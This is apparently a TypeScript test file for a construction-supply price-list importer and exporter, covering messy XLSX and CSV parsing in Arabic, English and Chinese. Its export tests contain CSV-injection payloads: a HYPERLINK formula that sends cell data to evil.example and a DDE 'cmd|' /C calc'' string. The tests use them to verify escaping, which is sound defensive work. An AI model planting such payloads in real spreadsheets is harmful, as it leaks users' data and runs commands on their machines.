/**
 * Awkward price lists, built here with exceljs (and as CSV bytes), read as the browser
 * reads them and checked with the shared rules: each row's outcome and problems.
 */
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import JSZip from 'jszip';
import {
  EXPORT_HEADERS,
  ROW_ISSUES,
  checkRows,
  cleanText,
  fromSpreadsheetText,
  spreadsheetCell,
  spreadsheetText,
  type ImportContext,
} from '../../../shared/price-list';
import { parseNumber } from '../../../shared/numbers';
import ar from '../../i18n/locales/ar/price-list.json';
import en from '../../i18n/locales/en/price-list.json';
import zh from '../../i18n/locales/zh/price-list.json';
import { exportCsv, exportXlsx, readCsv, readPriceList, readXlsx, toImportRows, type ExportLine } from './spreadsheet';

const CEMENT = 'ca7e0000-0000-4000-8000-000000000001';
const OLD = '01d00000-0000-4000-8000-000000000001';

const ctx = (room: number | null = 100): ImportContext => ({
  products: [{ id: OLD, sku: 'OLD-1', price: 30, stock_quantity: 5 }],
  categories: [{ id: CEMENT, slug: 'cement', name_ar: 'الأسمنت والخرسانة', name_en: 'Cement & Concrete', name_zh: '水泥与混凝土' }],
  room,
});

const buffer = async (wb: ExcelJS.Workbook) => (await wb.xlsx.writeBuffer()) as ArrayBuffer;

describe('an awkward XLSX', () => {
  async function awkward() {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('قائمة الأسعار');
    ws.getCell('A1').value = 'قائمة أسعار مؤسسة البناء 2026';
    ws.mergeCells('A1:F1'); // a title banner above the headers
    ws.getRow(2).values = ['  رمز المنتج ', 'الاسم', 'السعر (ر.س)', 'الوحدة', 'الكمية', 'الفئة'];
    ws.getRow(3).values = ['A-1', 'أسمنت مقاوم', '١٬٢٥٠٫٥٠ ر.س', 'كيس', '١٢٠', 'الأسمنت والخرسانة'];
    ws.getRow(4).values = ['A-2', '  حديد   تسليح ', null, 'طن', '1,200'];
    ws.mergeCells('F3:F4'); // one category for two rows
    ws.getCell('C4').value = { formula: 'C3*1.19', result: 14.949999999 };
    // row 5 left empty
    ws.getRow(6).values = ['A-3', '   ', 'SAR 10', 'كيس'];
    ws.getRow(7).values = ['A-4', 'رمل', 'abc', 'م³'];
    ws.getRow(8).values = ['A-5', 'بلوك', 3, 'حبة', null, 'Unknown'];
    ws.getRow(9).values = ['A-6', 'بلاط', 20, 'م²'];
    ws.getRow(10).values = ['A-6', 'بلاط فاخر', 25, 'م²'];
    ws.getRow(11).values = ['A-7', 'جبس', 9, 'كيس', 'كثير'];
    ws.getRow(12).values = ['A-8', 'دهان', 80, 'جالون'];
    ws.getRow(13).values = [' OLD-1 ', null, '٢٠'];
    ws.getRow(14).values = ['A-9', 'خشب', '', 'لوح'];
    return buffer(wb);
  }

  it('reads every row right and says what is wrong with each', async () => {
    const sheet = await readXlsx(await awkward());
    expect(sheet.mapping).toMatchObject({ sku: 0, name: 1, price: 2, unit: 3, stock: 4, category: 5, description: null, id: null });
    const rows = checkRows(toImportRows(sheet, sheet.mapping), ctx(3));
    const byLine = Object.fromEntries(rows.map((r) => [r.line, r]));
    expect(Object.keys(byLine).map(Number)).toEqual([3, 4, 6, 7, 8, 9, 10, 11, 12, 13, 14]); // line 5 was empty
    expect(byLine[3]).toMatchObject({ action: 'create', issues: [], sku: 'A-1', name: 'أسمنت مقاوم', price: 1250.5, unit: 'كيس', stock: 120, category_id: CEMENT });
    expect(byLine[4]).toMatchObject({ action: 'create', issues: [], name: 'حديد تسليح', price: 14.95, stock: 1200, category_id: CEMENT });
    expect(byLine[6]).toMatchObject({ action: 'invalid', issues: ['missing_name'], price: 10 });
    expect(byLine[7]).toMatchObject({ action: 'invalid', issues: ['price_not_number'] });
    expect(byLine[8]).toMatchObject({ action: 'invalid', issues: ['unknown_category'] });
    expect(byLine[9]).toMatchObject({ action: 'invalid', issues: ['duplicate_sku'] });
    expect(byLine[10]).toMatchObject({ action: 'invalid', issues: ['duplicate_sku'] });
    expect(byLine[11]).toMatchObject({ action: 'invalid', issues: ['stock_not_number'] });
    // The plan had room for three new products.
    expect(byLine[12]).toMatchObject({ action: 'create', issues: [] });
    expect(byLine[13]).toMatchObject({ action: 'update', issues: [], product_id: OLD, price: 20, before: { price: 30, stock_quantity: 5 } });
    expect(byLine[14]).toMatchObject({ action: 'invalid', issues: ['missing_price'] });
  });

  it('refuses new products past the plan, in file order, but still updates', async () => {
    const sheet = await readXlsx(await awkward());
    const rows = checkRows(toImportRows(sheet, sheet.mapping), ctx(1));
    const byLine = Object.fromEntries(rows.map((r) => [r.line, r]));
    expect(byLine[3].action).toBe('create');
    expect(byLine[4]).toMatchObject({ action: 'invalid', issues: ['plan_limit'] });
    expect(byLine[12]).toMatchObject({ action: 'invalid', issues: ['plan_limit'] });
    expect(byLine[13].action).toBe('update');
  });

  it('lets the mapping be changed', async () => {
    const sheet = await readXlsx(await awkward());
    // Read the stock column as the description instead.
    const rows = checkRows(toImportRows(sheet, { ...sheet.mapping, stock: null, description: 4 }), ctx());
    expect(rows.find((r) => r.line === 11)).toMatchObject({ action: 'create', description: 'كثير', stock: null });
  });
});

describe('an awkward CSV', () => {
  it('reads UTF-8 with a byte-order mark, semicolons and quoted thousands', async () => {
    const text = '\ufeffSKU;Name;Price;Unit;Stock\r\nB-1; Cement ;"1,250.00";bag;"2,000"\r\n;;;;\r\nB-2;Sand;SAR 7;m3;0\r\n';
    const sheet = await readCsv(new TextEncoder().encode(text).buffer as ArrayBuffer);
    const rows = checkRows(toImportRows(sheet, sheet.mapping), ctx());
    expect(rows.map((r) => [r.line, r.action, r.name, r.price, r.stock])).toEqual([
      [2, 'create', 'Cement', 1250, 2000],
      [4, 'create', 'Sand', 7, 0],
    ]);
  });

  it('reads Arabic saved by Excel on Windows (code page 1256)', async () => {
    // Windows-1256 bytes, from the decoder's own table.
    const table = new TextDecoder('windows-1256').decode(Uint8Array.from({ length: 256 }, (_, i) => i));
    // oxlint-disable-next-line typescript/no-misused-spread -- one byte per code point: Windows-1256 has no pairs
    const encode = (s: string) => Uint8Array.from([...s].map((ch) => table.indexOf(ch)));
    const sheet = await readCsv(encode('الاسم,السعر,الوحدة\r\nرمل,12,كيس\r\n').buffer as ArrayBuffer);
    const rows = checkRows(toImportRows(sheet, sheet.mapping), ctx());
    expect(rows).toMatchObject([{ line: 2, action: 'create', name: 'رمل', price: 12, unit: 'كيس' }]);
  });
});

describe('export then import', () => {
  const lines: ExportLine[] = [
    { id: OLD, sku: 'OLD-1', name: 'أسمنت، مقاوم "للأملاح"', price: 30, unit: 'كيس', stock: 5, category: 'الأسمنت والخرسانة', description: 'سطر\nوسطر' },
    { id: '01d00000-0000-4000-8000-000000000002', sku: null, name: 'Steel', price: 1250.5, unit: 'ton', stock: null, category: null, description: null },
  ];
  const context: ImportContext = {
    ...ctx(),
    products: [
      { id: OLD, sku: 'OLD-1', price: 30, stock_quantity: 5 },
      { id: '01d00000-0000-4000-8000-000000000002', sku: null, price: 1250.5, stock_quantity: null },
    ],
  };

  it.each(['ar', 'en', 'zh'] as const)('changes nothing (XLSX, %s headers)', async (language) => {
    const sheet = await readXlsx(await exportXlsx(lines, language));
    expect(sheet.headers).toEqual(Object.values(EXPORT_HEADERS[language]));
    const rows = checkRows(toImportRows(sheet, sheet.mapping), context);
    expect(rows.map((r) => [r.action, r.issues])).toEqual([['unchanged', []], ['unchanged', []]]);
  });

  it.each(['ar', 'en', 'zh'] as const)('changes nothing (CSV with a byte-order mark, %s headers)', async (language) => {
    const csv = exportCsv(lines, language, Papa);
    expect(csv.startsWith('\ufeff')).toBe(true);
    const sheet = await readCsv(new TextEncoder().encode(csv).buffer as ArrayBuffer);
    const rows = checkRows(toImportRows(sheet, sheet.mapping), context);
    expect(rows.map((r) => [r.action, r.issues])).toEqual([['unchanged', []], ['unchanged', []]]);
    expect(rows[0].name).toBe('أسمنت، مقاوم "للأملاح"');
  });
});

describe('formulas in an export', () => {
  // Every character OWASP (CSV Injection) and ASVS 1.2.10 name as a formula start, their
  // full-width forms, and the quote itself (which the escape uses).
  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\uff1d', '\uff0b', '\uff0d', '\uff20', "'"];
  const FORMULA_START = /^[=+\-@\t\r\n\0\uff1d\uff0b\uff0d\uff20]/;
  const ids = TRIGGERS.map((_, i) => `f0000000-0000-4000-8000-${String(i).padStart(12, '0')}`);
  const attack = (c: string) => `${c}HYPERLINK("http://evil.example/?d="&A1,"Cement")`;
  const lines: ExportLine[] = TRIGGERS.map((c, i) => ({
    id: ids[i],
    sku: `${c}${i}`,
    name: attack(c),
    price: i === 0 ? -5 : 10 + i,
    unit: `${c}kg`,
    stock: i === 0 ? -2 : i,
    category: null,
    description: `${c}cmd|' /C calc'!A0`,
  }));
  const context: ImportContext = { ...ctx(), products: ids.map((id, i) => ({ id, sku: lines[i].sku as string, price: lines[i].price as number, stock_quantity: lines[i].stock as number })) };
  const isNumber = (cell: string) => /^-?\d+(\.\d+)?$/.test(cell);

  it('writes no CSV cell a spreadsheet would run: text starts with a quote, each text cell is quoted, numbers stay numbers', () => {
    const csv = exportCsv(lines, 'en', Papa);
    for (const delimiter of [',', ';']) {
      // A spreadsheet set to another separator splits on it: a quoted cell stays one cell.
      const cells = Papa.parse<string[]>(csv.slice(1), { delimiter }).data.slice(1).flat();
      const live = cells.filter((c) => FORMULA_START.test(c) && !isNumber(c));
      expect(live, `delimiter ${delimiter}`).toEqual([]);
    }
    const [header, first] = Papa.parse<string[]>(csv.slice(1)).data;
    expect(header[3]).toBe('Price');
    expect(first[2]).toBe(`'${attack('=')}`);
    expect(first[3]).toBe('-5'); // a number, written bare
    expect(csv).toContain(',-5,');
    expect(csv).toContain(`"'=HYPERLINK(`);
  });

  it('writes no XLSX formula: text cells are strings starting with a quote, numbers stay numeric cells', async () => {
    const zip = await JSZip.loadAsync(await exportXlsx(lines, 'en'));
    const xml = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
    expect(xml).not.toMatch(/<f[\s>]/);
    const shared = [...((await zip.file('xl/sharedStrings.xml')?.async('string')) ?? '').matchAll(/<si>(.*?)<\/si>/gs)].map(([, si]) => si);
    const textOf = (attrs: string, inner: string) => (/t="s"/.test(attrs) ? shared[Number(inner.replace(/<[^>]+>/g, ''))] : inner).replace(/<[^>]+>/g, '').replace(/&apos;/g, "'");
    const cells = [...xml.matchAll(/<c r="([A-Z]+)(\d+)"([^>]*)>(.*?)<\/c>/gs)].filter(([, , row]) => row !== '1');
    expect(cells.length).toBe(TRIGGERS.length * 7); // no category
    for (const [, col, , attrs, inner] of cells) {
      if (col === 'D' || col === 'F') {
        expect(attrs, `${col}: a number`).not.toMatch(/t="/);
        expect(inner).toMatch(/^<v>-?\d+<\/v>$/);
      } else {
        expect(attrs).toMatch(/t="(s|inlineStr)"/);
        const text = textOf(attrs, inner);
        if (col !== 'A') expect(text.startsWith("'"), `${col}: ${text}`).toBe(true);
      }
    }
    expect(xml).toContain('<c r="D2"><v>-5</v></c>');
  });

  it.each(['csv', 'xlsx'] as const)('reads its %s back as the same text, and a negative number as the number', async (kind) => {
    const file = kind === 'csv' ? new TextEncoder().encode(exportCsv(lines, 'en', Papa)).buffer : await exportXlsx(lines, 'en');
    const sheet = await readPriceList(kind, file as ArrayBuffer);
    expect(parseNumber(sheet.rows[0].cells[3])).toBe(-5);
    const rows = checkRows(toImportRows(sheet, sheet.mapping), context);
    // The first line's -5 is read as -5, which a price may not be.
    expect(rows.map((r) => [r.action, r.issues])).toEqual(lines.map((_, i) => (i ? ['unchanged', []] : ['invalid', ['price_not_number', 'stock_not_number']])));
    // Every text as exported; a leading tab or line break aside, which every import trims.
    for (const field of ['name', 'sku', 'unit', 'description'] as const) {
      expect(rows.map((r) => r[field])).toEqual(lines.map((l) => cleanText(l[field])));
    }
    const exact = lines.map((l, i) => [l.name as string, rows[i].name]).filter(([name]) => !/^\s/.test(name!));
    expect(exact.length).toBe(TRIGGERS.length - 2);
    for (const [written, read] of exact) expect(read).toBe(written);
  });

  it('escapes exactly: quoted when it would start a formula or starts with a quote, and undone once', () => {
    for (const c of [...TRIGGERS, '\n', '\0']) {
      expect(spreadsheetText(`${c}x`)).toBe(`'${c}x`);
      expect(fromSpreadsheetText(spreadsheetText(`${c}x`))).toBe(`${c}x`);
      expect(fromSpreadsheetText(spreadsheetText(`'${c}x`))).toBe(`'${c}x`);
    }
    for (const text of ['Cement', ' =x', '5-10 mm', 'a=b', "O'Neil", '', '1,250']) {
      expect(spreadsheetText(text)).toBe(text);
      expect(fromSpreadsheetText(text)).toBe(text);
    }
    expect(fromSpreadsheetText("'x")).toBe("'x"); // a quote before anything else is the text's own
    expect(spreadsheetCell(-5)).toBe(-5);
    expect(spreadsheetCell(null)).toBeNull();
  });
});

describe('row messages', () => {
  it.each([['ar', ar], ['en', en], ['zh', zh]] as const)('every problem has a message in %s', (_, strings) => {
    for (const issue of ROW_ISSUES) expect((strings.issues as Record<string, string>)[issue], issue).toMatch(/\S/);
  });
});
